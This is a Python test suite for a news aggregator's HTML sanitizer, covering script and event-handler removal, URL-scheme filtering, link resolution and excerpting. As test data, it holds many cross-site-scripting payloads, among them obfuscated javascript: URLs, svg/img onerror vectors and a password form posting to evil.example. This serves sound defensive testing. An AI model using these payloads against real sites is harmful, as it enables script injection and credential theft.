"""What a subscriber sees of a source's HTML: safe markup that keeps the story's formatting.

The functions of normalize are called directly; the HTML they return is read back with lxml the
way a browser would build it, so a test fails on what would run, not on how it is spelled.
"""

from __future__ import annotations

import re
from typing import Any
from urllib.parse import urljoin, urlsplit

import lxml.html
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from aggregator import normalize
from aggregator.normalize import (
    IFRAME_SANDBOX,
    absolute_url,
    excerpt,
    plain_text,
    sanitize_html,
)

BASE = "https://example.org/news/story/"
REL = "noopener noreferrer nofollow"
SAFE_SCHEMES = {"http", "https", "mailto"}
UNSAFE_ELEMENTS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "base",
    "meta",
    "link",
    "svg",
    "math",
}
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "background", "poster", "data"}
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.IGNORECASE)
C0_OR_SPACE = "".join(chr(code) for code in range(0x21))
# lxml cannot hold these in a tree; a browser shows them as text, so a replacement character
# (which, like them, is never part of a tag or attribute name) stands in for them.
NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def tree(markup: str) -> Any:
    """The fragment as a browser-like parser builds it, under one <div>."""
    return lxml.html.fragment_fromstring(NOT_IN_XML.sub("\ufffd", markup), create_parent="div")


def browser_scheme(url: str) -> str | None:
    """The scheme a browser reads: C0 controls and spaces around, tabs and newlines anywhere,
    are ignored (so 'jav&#x09;ascript:' is javascript:)."""
    cleaned = re.sub(r"[\t\n\r]", "", url).strip(C0_OR_SPACE)
    match = SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


def executable_parts(markup: str) -> list[str]:
    """Everything in the parsed markup that could run or load as script."""
    if not markup.strip():
        return []
    found = []
    for element in tree(markup).iter():
        tag = element.tag.lower() if isinstance(element.tag, str) else ""
        if tag in UNSAFE_ELEMENTS:
            found.append(f"<{tag}> element")
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"<{tag} {name}={value!r}>")
            if name.lower() in {"style", "srcdoc", "srcset"}:
                found.append(f"<{tag} {name}={value!r}>")
            if name.lower() in URL_ATTRIBUTES:
                scheme = browser_scheme(value)
                # Output URLs are all absolute: a missing scheme is a failure too.
                if scheme not in SAFE_SCHEMES:
                    found.append(f"<{tag} {name}={value!r}> scheme {scheme!r}")
    return found


def tags(markup: str) -> list[str]:
    return [element.tag for element in tree(markup).iter()][1:]


# Unsafe markup is removed ------------------------------------------------------------------


@pytest.mark.parametrize(
    "markup",
    [
        "<p>Strike <script>alert('x')</script>today</p>",
        "<p>Strike <SCRIPT SRC=https://evil.example/x.js></SCRIPT>today</p>",
        "<p>Strike <script type='module'>import('https://evil.example/')</script>today</p>",
    ],
)
def test_scripts_are_removed_with_their_code(markup: str) -> None:
    clean = sanitize_html(markup, BASE)

    assert clean == "<p>Strike today</p>"


def test_style_elements_are_removed_with_their_rules() -> None:
    clean = sanitize_html("<style>body { display: none }</style><p>Union news</p>", BASE)

    assert clean == "<p>Union news</p>"


def test_style_attributes_are_removed() -> None:
    clean = sanitize_html('<p style="position:fixed;top:0">Overlay</p>', BASE)

    assert clean == "<p>Overlay</p>"


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ('<p onclick="steal()">Read</p>', "<p>Read</p>"),
        ("<p ONMOUSEOVER=steal()>Read</p>", "<p>Read</p>"),
        (
            '<img src="photo.jpg" onerror="steal()" alt="Picket">',
            f'<img loading="lazy" src="{BASE}photo.jpg" alt="Picket">',
        ),
        ('<body onload="steal()"><p>Read</p></body>', "<p>Read</p>"),
    ],
)
def test_event_handlers_are_removed(markup: str, expected: str) -> None:
    clean = sanitize_html(markup, BASE)

    assert clean == expected
    assert executable_parts(clean) == []


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "&#106;avascript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
    ],
)
def test_script_and_data_links_become_their_text(href: str) -> None:
    clean = sanitize_html(f'<p><a href="{href}">Sign the <b>petition</b></a></p>', BASE)

    assert clean == "<p>Sign the <b>petition</b></p>"


@pytest.mark.parametrize("attribute", ["src", "cite"])
def test_script_and_data_urls_are_removed_from_images_and_quotes(attribute: str) -> None:
    element = "img" if attribute == "src" else "blockquote"
    clean = sanitize_html(f'<{element} {attribute}="javascript:alert(1)">q</{element}>', BASE)

    assert attribute not in tree(clean).find(f".//{element}").attrib


def test_forms_and_their_controls_are_removed() -> None:
    markup = (
        '<form action="https://evil.example/collect" method="post">'
        '<input name="password" type="password"><button formaction="javascript:x()">Log in'
        "</button><textarea>note</textarea><select><option>one</option></select></form>"
    )

    clean = sanitize_html(markup, BASE)

    assert not {"form", "input", "button", "textarea", "select", "option"} & set(tags(clean))
    assert "evil.example" not in clean


@pytest.mark.parametrize(
    "markup",
    [
        '<iframe src="https://evil.example/"></iframe>',
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        '<object data="https://evil.example/x.swf"><param name="a" value="b"></object>',
        '<embed src="https://evil.example/x.swf">',
        '<applet code="Evil.class"></applet>',
        '<frameset><frame src="https://evil.example/"></frameset>',
        '<svg onload="alert(1)"><circle r="1"/></svg>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
    ],
)
def test_embedded_documents_and_page_level_elements_are_removed(markup: str) -> None:
    clean = sanitize_html(f"<p>Before</p>{markup}<p>After</p>", BASE)

    assert clean == "<p>Before</p><p>After</p>"


def test_comments_are_removed() -> None:
    clean = sanitize_html("<p>Text</p><!--[if IE]><script>alert(1)</script><![endif]-->", BASE)

    assert clean == "<p>Text</p>"


# What makes a story readable is kept ------------------------------------------------------


@pytest.mark.parametrize(
    "markup",
    [
        "<p><b>bold</b> <strong>strong</strong> <i>italic</i> <em>emphasis</em> <u>under</u> "
        "<s>struck</s> <del>gone</del> <ins>new</ins> <mark>marked</mark> <small>small</small> "
        "<sub>2</sub><sup>3</sup> <code>code</code> <kbd>key</kbd> <abbr>TUC</abbr></p>",
        "<pre>line one\n  line two</pre>",
        '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>',
        "<dl><dt>term</dt><dd>meaning</dd></dl>",
        "<blockquote><p>An injury to one is an injury to all.</p></blockquote>",
        '<table><caption>Votes</caption><thead><tr><th scope="col">For</th></tr></thead>'
        '<tbody><tr><td colspan="2">812</td></tr></tbody></table>',
        "<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>",
        "<p>First<br>second</p><hr>",
        '<p><time datetime="2024-05-01">May Day</time> <q>quoted</q></p>',
    ],
)
def test_formatting_is_kept_as_written(markup: str) -> None:
    assert sanitize_html(markup, BASE) == markup


def test_images_and_figures_are_kept_with_their_description() -> None:
    markup = (
        '<figure><img src="https://example.org/picket.jpg" alt="Strikers on the picket line" '
        'width="640" height="480"><figcaption>The picket line at dawn</figcaption></figure>'
    )

    assert sanitize_html(markup, BASE) == markup.replace("<img ", '<img loading="lazy" ')


def test_links_are_kept_and_marked_so_they_cannot_reach_back_or_gain_rank() -> None:
    clean = sanitize_html(
        '<a href="https://example.com/strike" rel="me" target="_blank">the strike</a>', BASE
    )

    link = tree(clean).find(".//a")
    assert link.get("href") == "https://example.com/strike"
    assert link.get("rel") == REL
    assert "target" not in link.attrib
    assert link.text == "the strike"


@pytest.mark.parametrize(
    ("markup", "attribute", "expected"),
    [
        ('<a href="../other/">x</a>', "href", "https://example.org/news/other/"),
        ('<a href="/about">x</a>', "href", "https://example.org/about"),
        ('<a href="#comments">x</a>', "href", "https://example.org/news/story/#comments"),
        ('<a href="//cdn.example.net/a">x</a>', "href", "https://cdn.example.net/a"),
        ('<a href="  photo.html ">x</a>', "href", "https://example.org/news/story/photo.html"),
        ('<img src="img/picket.jpg">', "src", "https://example.org/news/story/img/picket.jpg"),
        ('<blockquote cite="../source">q</blockquote>', "cite", "https://example.org/news/source"),
        ('<a href="mailto:press@example.org">x</a>', "href", "mailto:press@example.org"),
        ('<a href="http://example.net/">x</a>', "href", "http://example.net/"),
    ],
)
def test_relative_urls_are_resolved_against_the_base(
    markup: str, attribute: str, expected: str
) -> None:
    clean = sanitize_html(markup, BASE)

    (element,) = [element for element in tree(clean).iter() if attribute in element.attrib]
    assert element.get(attribute) == expected


def test_relative_urls_follow_the_base_they_are_given() -> None:
    first = sanitize_html('<a href="a.html">x</a>', "https://one.example/dir/")
    second = sanitize_html('<a href="a.html">x</a>', "http://two.example/")

    assert tree(first).find(".//a").get("href") == "https://one.example/dir/a.html"
    assert tree(second).find(".//a").get("href") == "http://two.example/a.html"


def test_text_and_entities_survive_sanitizing() -> None:
    clean = sanitize_html("<p>Wages &amp; conditions &lt;now&gt; — 5 &lt; 6</p>", BASE)

    assert tree(clean).find(".//p").text_content() == "Wages & conditions <now> — 5 < 6"


# Plain text and excerpts ------------------------------------------------------------------


def test_plain_text_drops_tags_and_keeps_words_apart() -> None:
    text = plain_text(
        "<h2>Strike</h2><p>Workers <b>walked</b> out.</p><ul><li>one</li><li>two</li></ul>"
    )

    assert text == "Strike Workers walked out. one two"


def test_plain_text_drops_image_alt_text() -> None:
    assert plain_text('<p>Before<img src="x.png" alt="A picture">after</p>') == "Beforeafter"


def test_plain_text_drops_script_and_style_bodies() -> None:
    markup = "<style>p { color: red }</style><p>Visible</p><script>var hidden = 1;</script>"

    assert plain_text(markup) == "Visible"


def test_plain_text_decodes_entities() -> None:
    text = plain_text("<p>Bread &amp; roses &#8212; &quot;now&quot;&nbsp;&lt;here&gt; &eacute;</p>")

    assert text == 'Bread & roses \u2014 "now" <here> é'


def test_plain_text_collapses_whitespace() -> None:
    assert plain_text("  one\n\n two\t three  ") == "one two three"


def test_excerpt_cuts_at_a_word_boundary_with_an_ellipsis() -> None:
    text = "Workers at the plant voted overwhelmingly to strike over pay"

    assert excerpt(text, 4) == "Workers at the plant…"


def test_excerpt_drops_trailing_punctuation_before_the_ellipsis() -> None:
    assert excerpt("One, two; three: four.", 2) == "One, two…"


def test_excerpt_leaves_short_text_alone() -> None:
    assert excerpt("Short and sweet", 3) == "Short and sweet"
    assert excerpt("Short and sweet", 10) == "Short and sweet"


def test_excerpt_has_no_space_before_the_ellipsis() -> None:
    """A dash cut off at the end must not leave "said …" behind."""
    assert (
        excerpt("Workers said \u2014 and we agree \u2014 that pay must rise", 3) == "Workers said…"
    )


@given(st.text(), st.integers(min_value=1, max_value=30))
@settings(max_examples=300, deadline=None)
def test_excerpt_never_cuts_inside_a_word(text: str, words: int) -> None:
    cut = excerpt(text, words)

    if cut == text:
        assert len(text.split()) <= words
        return
    assert len(text.split()) > words
    assert cut.endswith("…")
    kept = cut.removesuffix("…").split()
    assert len(kept) <= words
    # Every kept word is a whole word of the text (the last one may lose trailing punctuation).
    if kept:
        assert kept[:-1] == text.split()[: len(kept) - 1]
        assert text.split()[len(kept) - 1].startswith(kept[-1])


# absolute_url -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("page.html", "https://example.org/news/story/page.html"),
        ("https://example.com/x", "https://example.com/x"),
        ("mailto:a@example.org", "mailto:a@example.org"),
        ("javascript:alert(1)", None),
        ("  JAVASCRIPT:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("vbscript:msgbox(1)", None),
        ("file:///etc/passwd", None),
        ("", None),
        ("   ", None),
    ],
)
def test_absolute_url(value: str, expected: str | None) -> None:
    assert absolute_url(value, BASE) == expected


def test_absolute_url_refuses_relative_urls_under_an_unsafe_base() -> None:
    assert absolute_url("page.html", "javascript:alert(1)//") is None


# Properties over hostile input -------------------------------------------------------------

DANGEROUS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js>",
    "<script",
    "</script>",
    "<style>*{x:expression(alert(1))}</style>",
    "<style",
    " onload=alert(1)",
    ' onerror="alert(1)"',
    "onmouseover=alert(1) ",
    "javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:",
    "jav&#x09;ascript:alert(1)",
    "jav&#9;ascript:",
    "java\nscript:",
    "&#0000106&#0000097vascript:",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<iframe src=javascript:alert(1)>",
    "<iframe",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<img src=",
    '<a href="',
    "<a href=",
    "<a href='javascript:alert(1)'>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<object data=x>",
    "<embed src=x>",
    "<form action=javascript:alert(1)><button>",
    "<base href=javascript:/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea>",
    "<title>",
    "<xmp>",
    "<plaintext>",
    "<table><tr><td>",
    "<p style='background:url(javascript:alert(1))'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '"',
    "'",
    "`",
    "<",
    ">",
    "=",
    "/",
    "&",
    "&lt;script&gt;",
]
BENIGN = [
    "<p>",
    "</p>",
    "<a href=",
    "<a href=page.html>",
    "</a>",
    "<img src=i.png alt=x>",
    "<b>",
    "</b>",
    "<ul><li>",
    "<blockquote cite=",
    " href=",
    " src=",
    "https://example.com/",
    "mailto:a@b.c",
    " ",
]


def case_variants(fragment: str) -> st.SearchStrategy[str]:
    return st.sampled_from([fragment, fragment.upper(), fragment.swapcase()])


hostile_markup = st.lists(
    st.one_of(
        st.sampled_from(DANGEROUS).flatmap(case_variants),
        st.sampled_from(BENIGN),
        st.text(max_size=12),
    ),
    max_size=14,
).map("".join)
bases = st.one_of(
    st.sampled_from(
        [BASE, "http://example.com", "https://example.org/a/b?c=d#e", "javascript:alert(1)//"]
    ),
    st.text(max_size=30),
)


@given(hostile_markup, bases)
@settings(max_examples=300, deadline=None)
@example("<svg onload=alert(1)>", BASE)
@example('<a href="jav&#x09;ascript:alert(1)">x</a>', BASE)
@example("<IMG SRC=x ONERROR=alert(1)", BASE)
@example("<a href=page.html>x</a>", "javascript:alert(1)//")
def test_sanitized_html_contains_nothing_executable(markup: str, base: str) -> None:
    clean = sanitize_html(markup, base)

    assert executable_parts(clean) == [], clean
    assert not re.search(r"<\s*/?\s*(script|style|iframe|object|embed|svg)\b", clean, re.I), clean


@given(hostile_markup, bases)
@settings(max_examples=300, deadline=None)
@example("<p>a<b>b</p>c", BASE)
@example("<table><tr><td>x<p>y", BASE)
# A video with fallback text: <object> goes, its <p> stays inside the outer <p>.
@example("<p>Intro<object data=movie.swf><p>Fallback text</p></object></p>", BASE)
def test_sanitizing_is_idempotent(markup: str, base: str) -> None:
    once = sanitize_html(markup, base)

    assert sanitize_html(once, base) == once


urls = st.one_of(
    st.text(max_size=40),
    st.tuples(
        st.sampled_from(
            [
                "javascript:",
                "JaVaScRiPt:",
                " javascript:",
                "\x00javascript:",
                "\x01javascript:",
                "java\tscript:",
                "java\nscript:",
                "\tjavascript:",
                "vbscript:",
                "data:",
                "file:",
                "ftp:",
                "feed:",
                "about:",
                "http:",
                "https:",
                "mailto:",
                "//",
                "/",
                "\\\\",
                "",
            ]
        ),
        st.text(max_size=30),
    ).map("".join),
)


@given(urls, bases)
@settings(max_examples=300, deadline=None)
@example("page.html", "javascript:alert(1)//")
@example("java\tscript:alert(1)", BASE)
def test_absolute_url_only_returns_safe_schemes(value: str, base: str) -> None:
    resolved = absolute_url(value, base)

    if resolved is None:
        return
    assert urlsplit(resolved).scheme.lower() in SAFE_SCHEMES, resolved
    # ... and a browser reading the same string finds the same kind of scheme.
    assert browser_scheme(resolved) in SAFE_SCHEMES, resolved


absolute_urls = st.tuples(
    st.sampled_from(["http://", "https://", "HTTP://", "http:///"]),
    st.text(st.sampled_from("ab.:@%[]-"), min_size=0, max_size=8),
    st.text(st.sampled_from("/?#;ab=&. %\t\u00e9\x01[]"), max_size=16),
).map("".join)


@given(absolute_urls, bases)
@settings(max_examples=500, deadline=None)
@example("https://example.org/a;b", BASE)
@example("https://example.org/a?", BASE)
@example("https://example.org/a?#top", BASE)
@example("https://[::1/a", BASE)
def test_an_absolute_url_is_resolved_as_urljoin_resolves_it(value: str, base: str) -> None:
    """Most links are absolute already and are taken as they are, without urljoin: the
    result must be what urljoin would have given."""
    try:
        resolved = urljoin(base, value.strip())
        expected = resolved if urlsplit(resolved).scheme.lower() in SAFE_SCHEMES else None
    except ValueError:
        expected = None
    if not value.strip():
        expected = None

    assert absolute_url(value, base) == expected


# Embedded players ---------------------------------------------------------------------------

PLAYER_HOSTS = frozenset({"www.youtube.com", "player.vimeo.com"})
PLAYER_PARTS = [
    "<iframe src=https://www.youtube.com/embed/abc>",
    '<iframe src="//player.vimeo.com/video/1" allowfullscreen>',
    "<iframe src=http://www.youtube.com/embed/x width=560 height=315>",
    '<iframe title="a > b" src="https://www.youtube.com/embed/y">',
    "<iframe src=https://www.youtube.com.evil.example/>",
    "<iframe srcdoc='<script>alert(1)</script>' src=https://www.youtube.com/embed/z>",
    " sandbox=allow-top-navigation",
    " allow=camera",
    "</iframe>",
]
hostile_with_players = st.lists(
    st.one_of(
        st.sampled_from(DANGEROUS).flatmap(case_variants),
        st.sampled_from(PLAYER_PARTS),
        st.sampled_from(BENIGN),
        st.text(max_size=12),
    ),
    max_size=14,
).map("".join)


@given(hostile_with_players, bases)
@settings(max_examples=300, deadline=None)
@example('<iframe src="https://www.youtube.com/embed/x">Fallback <b>text</b></iframe>', BASE)
@example("<iframe src=https://www.youtube.com/embed/x sandbox=allow-top-navigation>", BASE)
def test_the_only_iframes_left_are_empty_sandboxed_players_from_allowed_hosts(
    markup: str, base: str
) -> None:
    clean = sanitize_html(markup, base, PLAYER_HOSTS)

    assert [part for part in executable_parts(clean) if part != "<iframe> element"] == []
    for frame in tree(clean).iter("iframe"):
        source = urlsplit(frame.get("src", ""))
        assert source.scheme == "https" and source.hostname in PLAYER_HOSTS, clean
        assert frame.get("sandbox") == IFRAME_SANDBOX, clean
        assert set(frame.attrib) <= {"src", "width", "height", "title", "allowfullscreen",
                                     "sandbox", "loading", "referrerpolicy"}, clean  # fmt: skip
        assert not frame.text and len(frame) == 0, clean
    assert sanitize_html(clean, base, PLAYER_HOSTS) == clean


@pytest.mark.parametrize(
    "image",
    [
        '<img src="https://example.org/a.jpg" alt="" width="10" height="10" loading="lazy">',
        '<img src="https://example.org/a.jpg" alt="" loading="eager">',
        '<img loading="lazy" src="https://example.org/a.jpg" alt="">',
    ],
)
def test_an_image_that_asks_to_load_lazily_is_settled_in_two_passes(
    image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """WordPress writes loading="lazy" last; one pass must already give the final form, so
    the second pass, which checks it, is the last."""
    calls = []
    cleaner = normalize._cleaner(False)

    class Counted:
        def clean(self, markup: str) -> str:
            calls.append(markup)
            return cleaner.clean(markup)

    monkeypatch.setattr(normalize, "_cleaner", lambda iframes: Counted())
    result = sanitize_html(f"<p>{image}</p>", BASE)

    assert (
        result
        == '<p><img loading="lazy" src="https://example.org/a.jpg" alt=""'
        + (' width="10" height="10">' if "width" in image else ">")
        + "</p>"
    )
    assert len(calls) == 2
